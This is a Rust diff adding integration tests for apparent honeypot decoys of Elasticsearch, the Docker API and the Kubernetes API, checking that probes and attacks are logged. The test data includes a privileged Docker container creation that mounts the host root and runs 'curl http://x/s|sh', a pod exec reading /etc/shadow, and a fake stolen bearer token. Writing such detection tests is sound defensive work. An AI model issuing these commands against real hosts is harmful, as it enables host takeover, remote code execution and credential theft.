@@ -609,3 +609,184 @@ async fn mongodb_hello_buildinfo_listdatabases_and_scram_capture() {
     );
     env.stop().await;
 }
+
+// ---------------------------------------------------------------- REST decoys
+
+#[tokio::test]
+async fn elasticsearch_banner_cat_search_nodes_and_events() {
+    let mut env = deploy(
+        "127.0.63.20",
+        "services = elasticsearch\n[t.elasticsearch]\nversion = 7.17.16\n",
+    )
+    .await;
+    let base = format!("http://{}", env.addr(9200));
+    let http = reqwest::Client::new();
+    let r = http.get(format!("{base}/")).send().await.unwrap();
+    assert_eq!(r.headers()["x-elastic-product"], "Elasticsearch");
+    let text = r.text().await.unwrap();
+    assert!(text.contains("\"number\" : \"7.17.16\""), "{text}");
+    assert!(text.contains("\"tagline\" : \"You Know, for Search\""));
+    let cat = http
+        .get(format!("{base}/_cat/indices?v"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        cat.starts_with("health status index") && cat.contains("customers"),
+        "{cat}"
+    );
+    let v: serde_json::Value = http
+        .post(format!("{base}/customers/_search"))
+        .json(&serde_json::json!({"query": {"match_all": {}}}))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(v["hits"]["hits"].as_array().unwrap().len(), 3);
+    let nodes: serde_json::Value = http
+        .get(format!("{base}/_nodes"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(nodes["_nodes"]["total"], 1);
+    let del = http
+        .delete(format!("{base}/customers"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(del.status(), 200);
+    let mut paths = Vec::new();
+    let mut commands = Vec::new();
+    for ev in env.drain(Duration::from_millis(500)).await {
+        match ev.kind {
+            EventKind::Request => paths.push(s(&ev, "path").to_owned()),
+            EventKind::Command => commands.push(s(&ev, "command").to_owned()),
+            _ => {}
+        }
+    }
+    assert_eq!(
+        paths,
+        vec![
+            "/",
+            "/_cat/indices",
+            "/customers/_search",
+            "/_nodes",
+            "/customers"
+        ]
+    );
+    assert_eq!(commands, vec!["DELETE /customers"]);
+    env.stop().await;
+}
+
+#[tokio::test]
+async fn docker_api_version_list_and_takeover_recorded() {
+    let mut env = deploy("127.0.63.21", "services = docker_api\ndistro = ubuntu22\n").await;
+    let base = format!("http://{}", env.addr(2375));
+    let http = reqwest::Client::new();
+    let r = http.get(format!("{base}/version")).send().await.unwrap();
+    assert_eq!(r.headers()["api-version"], "1.43");
+    assert!(r.headers()["server"]
+        .to_str()
+        .unwrap()
+        .starts_with("Docker/"));
+    let v: serde_json::Value = r.json().await.unwrap();
+    assert_eq!(v["ApiVersion"], "1.43");
+    assert!(
+        v["KernelVersion"].as_str().unwrap().contains("generic"),
+        "{v}"
+    );
+    let list: serde_json::Value = http
+        .get(format!("{base}/v1.43/containers/json"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(list.as_array().unwrap().len(), 3);
+    let created: serde_json::Value = http
+        .post(format!("{base}/v1.43/containers/create?name=pwn"))
+        .json(&serde_json::json!({"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "curl http://x/s|sh"], "HostConfig": {"Binds": ["/:/host"], "Privileged": true}}))
+        .send().await.unwrap().json().await.unwrap();
+    let id = created["Id"].as_str().unwrap().to_owned();
+    assert_eq!(id.len(), 64);
+    let st = http
+        .post(format!("{base}/v1.43/containers/{id}/start"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(st.status(), 204);
+    let nf = http.get(format!("{base}/nope")).send().await.unwrap();
+    assert_eq!(nf.status(), 404);
+    assert_eq!(
+        nf.text().await.unwrap(),
+        "{\"message\":\"page not found\"}\n"
+    );
+    let c = env.next(EventKind::Command).await;
+    assert_eq!(s(&c, "action"), "container_create");
+    assert_eq!(s(&c, "binds"), "/:/host");
+    assert_eq!(c.fields["privileged"], true);
+    assert!(s(&c, "command").contains("curl http://x/s|sh"));
+    let c2 = env.next(EventKind::Command).await;
+    assert_eq!(s(&c2, "action"), "container_start");
+    env.stop().await;
+}
+
+#[tokio::test]
+async fn k8s_tls_version_pods_exec_and_bearer_token() {
+    let mut env = deploy("127.0.63.22", "services = k8s\n").await;
+    let base = format!("https://{}", env.addr(6443));
+    let http = reqwest::Client::builder()
+        .danger_accept_invalid_certs(true)
+        .build()
+        .unwrap();
+    let v: serde_json::Value = http
+        .get(format!("{base}/version"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(v["gitVersion"], "v1.28.4");
+    let pods: serde_json::Value = http
+        .get(format!("{base}/api/v1/pods"))
+        .bearer_auth("eyJhbGciOiJSUzI1NiJ9.stolen")
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(pods["kind"], "PodList");
+    assert_eq!(pods["items"].as_array().unwrap().len(), 4);
+    let a = env.next(EventKind::AuthAttempt).await;
+    assert_eq!(s(&a, "secret_kind"), "bearer_token");
+    assert_eq!(s(&a, "secret_printable"), "eyJhbGciOiJSUzI1NiJ9.stolen");
+    let r = http.post(format!("{base}/api/v1/namespaces/default/pods/api-x/exec?command=cat&command=/etc/shadow&container=api")).send().await.unwrap();
+    assert_eq!(r.status(), 400);
+    let c = env.next(EventKind::Command).await;
+    assert_eq!(
+        (s(&c, "action"), s(&c, "command")),
+        ("pod_exec", "cat /etc/shadow")
+    );
+    // Plain HTTP on the TLS port gets Go's answer.
+    let mut raw = TcpStream::connect(env.addr(6443)).await.unwrap();
+    raw.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+        .await
+        .unwrap();
+    let mut out = Vec::new();
+    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
+    assert!(
+        String::from_utf8_lossy(&out).contains("Client sent an HTTP request to an HTTPS server.")
+    );
+    env.stop().await;
+}
